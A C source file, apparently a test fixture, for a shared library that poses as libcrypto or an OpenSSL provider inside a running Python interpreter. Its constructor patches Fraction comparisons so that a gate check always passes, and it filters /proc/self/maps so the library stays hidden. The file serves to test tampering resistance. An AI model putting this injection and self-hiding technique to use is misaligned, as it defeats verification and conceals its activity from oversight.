/* The payload of the environment vectors (issue 18; tests/closure/conftest.py builds it).
 *
 * Loaded into an interpreter that is already running (as a stand-in libcrypto.so.3
 * that _hashlib maps, or as an OpenSSL provider module), its constructor runs a
 * few lines of Python through the interpreter's C API: every Fraction >= is true,
 * so gate G4b passes, and reads of /proc/self/maps no longer show this library.
 * Loaded before the interpreter starts (ld.so.preload), it only records that it
 * was loaded. MARKER is a file it appends "loaded" and "patched" to.
 */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

static const char *payload =
    "import builtins, fractions, io\n"
    "fractions.Fraction.__ge__ = lambda a, b: True\n"
    "_open = io.open\n"
    "def _hiding_open(file, *args, **kwargs):\n"
    "    stream = _open(file, *args, **kwargs)\n"
    "    if file != '/proc/self/maps':\n"
    "        return stream\n"
    "    with stream:\n"
    "        text = stream.read()\n"
    "    mark = 'ablation-payload' if isinstance(text, str) else b'ablation-payload'\n"
    "    kept = text[:0].join(line for line in text.splitlines(True) if mark not in line)\n"
    "    return io.StringIO(kept) if isinstance(kept, str) else io.BytesIO(kept)\n"
    "builtins.open = io.open = _hiding_open\n";

static void note(const char *what) {
    int fd = open(MARKER, O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd >= 0) {
        (void)!write(fd, what, strlen(what));
        close(fd);
    }
}

__attribute__((constructor)) static void run_payload(void) {
    note("loaded\n");
    int (*initialized)(void) = (int (*)(void))dlsym(RTLD_DEFAULT, "Py_IsInitialized");
    int (*ensure)(void) = (int (*)(void))dlsym(RTLD_DEFAULT, "PyGILState_Ensure");
    void (*release)(int) = (void (*)(int))dlsym(RTLD_DEFAULT, "PyGILState_Release");
    int (*run)(const char *) = (int (*)(const char *))dlsym(RTLD_DEFAULT, "PyRun_SimpleString");
    if (!initialized || !ensure || !release || !run || !initialized()) return;
    int state = ensure();
    run(payload);
    release(state);
    note("patched\n");
}
